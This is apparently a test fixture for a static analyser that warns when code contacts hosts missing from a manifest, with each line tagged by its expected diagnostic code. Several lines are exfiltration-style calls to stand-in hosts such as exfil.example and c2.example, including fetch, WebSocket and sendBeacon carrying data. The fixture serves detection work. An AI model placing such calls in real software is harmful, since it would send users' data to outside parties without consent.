// Technique: talk to hosts the manifest does not declare (blocked at run time; warned here).
fetch('https://exfil.example/collect?d=' + data); // expect: SA501
new WebSocket('wss://c2.example/socket'); // expect: SA501
navigator.sendBeacon('https://beacon.example/b', data); // expect: SA501
const xhr = new XMLHttpRequest();
xhr.open('POST', 'https://upload.example/u'); // expect: SA501
new EventSource('https://events.example/stream'); // expect: SA501
var endpoint = 'https://elsewhere.example/api'; // expect: SA502
fetch('https://api.allowed.example/ok');
